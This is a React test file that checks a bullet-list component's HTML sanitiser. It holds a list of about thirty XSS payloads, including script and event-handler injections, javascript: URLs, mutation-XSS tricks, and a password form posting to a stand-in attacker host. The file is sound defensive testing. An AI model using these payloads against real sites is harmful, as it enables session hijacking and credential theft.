import { render, screen } from '@testing-library/react';
import { inTheme } from '@test/in-theme';
import { BulletList } from './BulletList';

/** Texts of attackers. */
const ATTACKS = [
  '<script>canary()</script>teks',
  '<img src="https://evil.example.com/canary.png" onerror="canary()">teks',
  '<svg onload="canary()"><script>canary()</script></svg>teks',
  '<svg><a xlink:href="javascript:canary()"><text>teks</text></a></svg>teks',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">teks',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>teks',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">teks',
  '<a href="javascript:canary()">teks</a>',
  '<a href="java&#10;script:canary()">teks</a>',
  '<a href=" &#1;javascript:canary()">teks</a>',
  '<a href="JaVaScRiPt:canary()">teks</a>',
  '<a href="vbscript:canary()">teks</a>',
  '<a href="data:text/html,<script>canary()</script>">teks</a>',
  '<a href="//evil.example.com/canary">teks</a>',
  '<a href="https://canary\u0000">teks</a>',
  '<a href="https:///">teks</a>',
  '<p style="background:url(https://evil.example.com/canary)" onclick="canary()" id="root" class="canary">teks</p>',
  '<iframe src="https://evil.example.com/canary" srcdoc="<script>canary()</script>"></iframe>teks',
  '<object data="canary.swf"></object><embed src="canary.swf">teks',
  '<video poster="https://evil.example.com/canary"><source onerror="canary()"></video>teks',
  '<form action="https://evil.example.com/canary"><input name="password"><button>teks</button></form>',
  '<base href="https://evil.example.com/canary/">teks',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.com/canary">teks',
  '<link rel="stylesheet" href="https://evil.example.com/canary.css">teks',
  '<style>@import "https://evil.example.com/canary";</style>teks',
  '<template><img src=x onerror=canary()></template>teks',
  '<details open ontoggle="canary()"><summary>teks</summary></details>',
  '<p is="canary-element" slot="canary">teks</p>',
  '"><img src=x onerror=canary()>teks',
  '<<script>canary()//<</script>teks',
  '<p/onmouseover="canary()">teks',
  '<a href="https://example.com" onclick="canary()" style="position:fixed">teks</a>',
  '<b><p><script>canary()</script>teks</b></p>',
];

const TAGS = ['LI', 'A', 'B', 'STRONG', 'I', 'EM', 'U', 'S', 'SUB', 'SUP'];

it.each(ATTACKS)('lets nothing through but text, marks and safe links of %s', (html) => {
  render(<BulletList html={`<p>Teliti</p>${html}`} emptyText="Kosong" />, inTheme);
  const list = screen.getByRole('list');
  expect(list).toHaveTextContent('Teliti');
  for (const element of list.querySelectorAll('*')) {
    expect(TAGS).toContain(element.tagName);
    const allowed = element.hasAttribute('href') ? ['href', 'rel', 'target'] : [];
    expect(element.getAttributeNames()).toEqual(allowed);
    expect(element.getAttribute('href') ?? 'https://example.com/').toBe('https://example.com/');
  }
});

it.each([
  ['https://example.com/a?b=c', 'https://example.com/a?b=c'],
  ['http://example.com', 'http://example.com/'],
  ['mailto:hrd@example.com', 'mailto:hrd@example.com'],
])('opens %s in a new tab that knows nothing of this one', (href, shown) => {
  render(<BulletList html={`<p>Lihat <a href="${href}">laman ini</a></p>`} emptyText="Kosong" />, inTheme);
  const link = screen.getByRole('link', { name: 'laman ini' });
  expect(link).toHaveAttribute('href', shown);
  expect(link).toHaveAttribute('target', '_blank');
  expect(link).toHaveAttribute('rel', 'noopener noreferrer');
});

it('says so when there is nothing to list', () => {
  render(<BulletList html="<p>&nbsp;</p>" emptyText="Belum ada deskripsi." />, inTheme);
  expect(screen.getByText('Belum ada deskripsi.')).toBeVisible();
  expect(screen.queryByRole('list')).not.toBeInTheDocument();
});
